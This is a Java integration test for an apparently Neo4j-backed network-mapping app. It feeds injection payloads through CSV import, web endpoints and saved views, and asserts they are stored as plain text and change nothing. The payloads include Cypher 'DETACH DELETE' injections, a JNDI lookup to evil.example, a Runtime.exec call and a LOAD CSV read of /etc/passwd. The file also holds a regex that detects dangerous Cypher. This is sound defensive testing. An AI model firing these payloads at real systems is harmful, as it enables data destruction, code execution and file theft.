package dk.bindeled.scan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dk.bindeled.intake.CheckedFolder;
import dk.bindeled.intake.Intake;
import dk.bindeled.intake.IntakeOptions;
import dk.bindeled.network.Progress;
import dk.bindeled.privacy.CurrentUser;
import dk.bindeled.store.ImportSource;
import dk.bindeled.store.NetworkCounts;
import dk.bindeled.store.NetworkReader;
import dk.bindeled.store.NetworkWriter;
import dk.bindeled.store.Registry;
import dk.bindeled.testing.RunningApplication;
import dk.bindeled.views.SavedView;
import dk.bindeled.views.SavedViews;
import dk.bindeled.views.ViewRefused;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** No text that somebody writes becomes part of a statement for the database, and no statement fetches anything. */
class InjectionIT {

    private static final List<String> PAYLOADS = List.of(
            "' OR 1=1 //",
            "\" OR 1=1 //",
            "a`) DETACH DELETE n //",
            "\\u0060) MATCH (n) DETACH DELETE n //",
            "\\u0027 OR 1=1 //",
            "'}) MATCH (n) DETACH DELETE n WITH 1 AS x RETURN x //",
            "$text",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
            "CALL { CALL db.labels() } IN TRANSACTIONS",
            "\u0000",
            ".*",
            "%");

    @SuppressWarnings("NullAway.Init") // started before the first test
    private static RunningApplication application;

    @TempDir
    private static Path folder;

    static Stream<String> payloads() {
        return PAYLOADS.stream();
    }

    /** Every text of the network is a payload: ids, names, the names and values of further columns, contexts. */
    @BeforeAll
    static void importThem() throws IOException {
        application = RunningApplication.empty();
        StringBuilder actors =
                new StringBuilder("id,kind,label,color`) DETACH DELETE n //,k\\u0060}) MATCH (m) DELETE m //\n");
        StringBuilder ties = new StringBuilder("from,to,type,context\n");
        for (int k = 0; k < PAYLOADS.size() - 3; k++) {
            String cell = "\"" + PAYLOADS.get(k).replace("\"", "\"\"") + "\"";
            actors.append(cell)
                    .append(",citizen,")
                    .append(cell)
                    .append(',')
                    .append(cell)
                    .append(',')
                    .append(cell)
                    .append('\n');
            ties.append(cell)
                    .append(",\"")
                    .append(PAYLOADS.get((k + 1) % (PAYLOADS.size() - 3)).replace("\"", "\"\""))
                    .append("\",knows,")
                    .append(cell)
                    .append('\n');
        }
        Path network = Files.createDirectory(folder.resolve("network"));
        Files.writeString(network.resolve("actors.csv"), actors);
        Files.writeString(network.resolve("ties.csv"), ties);
        CheckedFolder checked = Intake.check(network, IntakeOptions.withEveryAttribute(), Progress.UNWATCHED);
        assertThat(checked.faults()).isEmpty();
        application
                .bean(NetworkWriter.class)
                .load(checked.rows(), new ImportSource("`) DETACH DELETE n //", "'}) //"), Progress.UNWATCHED);
    }

    @AfterAll
    static void stop() {
        application.close();
    }

    @Test
    void everyPayloadIsStoredAsTheTextItIs() {
        NetworkCounts counts = application.bean(NetworkReader.class).counts();
        assertThat(counts.actors()).isEqualTo(PAYLOADS.size() - 3);
        assertThat(counts.ties()).isEqualTo(PAYLOADS.size() - 3);
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void searchingForOneFindsTextAndChangesNothing(String payload) {
        NetworkCounts before = application.bean(NetworkReader.class).counts();
        Visitor known = Visitor.signedIn(application);
        String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8);
        for (String path : new String[] {
            "/map/search?q=" + encoded,
            "/map/picture?groups=attribute:" + encoded,
            "/map/picture?groups=" + encoded,
            "/map/picture?date=" + encoded,
            "/map/nodes?forms=" + encoded,
            "/map/nodes?discs=" + encoded,
            "/map/around?steps=1&node=" + encoded,
            "/map/nodes?by=" + encoded,
            "/map/rule?by=" + encoded,
            "/map/rule?by=group:attribute:" + encoded,
            "/map?colour=" + encoded + "&sel=" + encoded + "&at=" + encoded,
            "/overview?groups=attribute:" + encoded,
            "/map?group=" + encoded,
            "/bridges?pair=" + encoded + "~" + encoded,
            "/bridges/fragility?groups=" + encoded,
            "/bridges/collaboration?sectors=" + encoded,
            "/bridges/linking?group=" + encoded,
            "/bridges/what-if?pair=" + encoded + "~" + encoded,
            "/bridges/what-if?plan=" + encoded + "&against=" + encoded,
            "/bridges/plans?plan=" + encoded,
        }) {
            HttpResponse<String> answer = known.get(path);
            assertThat(answer.statusCode()).as(path).isIn(200, 400);
            assertThat(answer.body())
                    .as(path)
                    .doesNotContain("root:x:", "SyntaxError", "Neo.ClientError", "Neo4jException");
        }
        assertThat(application.bean(NetworkReader.class).counts()).isEqualTo(before);
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void theRegistryTakesOneAsText(String payload) {
        Registry registry = application.bean(Registry.class);
        assertThatCode(() -> {
                    registry.findActor(payload);
                    registry.findActors(payload, 5);
                    application.bean(NetworkReader.class).tiesOf(payload);
                })
                .doesNotThrowAnyException();
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void aViewTakesOneAsText(String payload) {
        NetworkCounts before = application.bean(NetworkReader.class).counts();
        NetworkCounts after = CurrentUser.asProgram(() -> {
            SavedViews views = application.bean(SavedViews.class);
            SavedView saved = views.create("x" + payload, "colour=" + payload);
            assertThat(views.list()).extracting(SavedView::id).contains(saved.id());
            assertThat(views.open(saved.id()).query()).contains("colour=");
            assertThatThrownBy(() -> views.open(payload)).isInstanceOf(ViewRefused.class);
            views.rename(saved.id(), payload + "y");
            views.save(saved.id(), saved.version(), "sel=" + payload);
            assertThatThrownBy(() -> views.delete(payload)).isInstanceOf(ViewRefused.class);
            views.delete(saved.id());
            return application.bean(NetworkReader.class).counts();
        });
        assertThat(after).isEqualTo(before);
    }

    /** The statements are files, and none is put together from a text: what varies is a parameter. */
    @Test
    void noStatementFetchesAnythingOrCallsWhatItWasNotGiven() throws IOException {
        Pattern dangerous = Pattern.compile(
                "(?i)\\bLOAD\\s+CSV\\b|\\bapoc\\.|\\bdbms\\.(?!components\\(\\))|https?://|file:/|\\bEXECUTE\\b");
        try (Stream<Path> files = Files.walk(Path.of("cypher"))) {
            for (Path file : (Iterable<Path>) files.filter(f -> f.toString().endsWith(".cypher"))::iterator) {
                String statement = Files.readString(file).replaceAll("(?m)//.*$", "");
                assertThat(dangerous.matcher(statement).find())
                        .as(file.toString())
                        .isFalse();
            }
        }
        assertThat(dangerous.matcher("load csv from $x as row").find()).isTrue();
    }
}
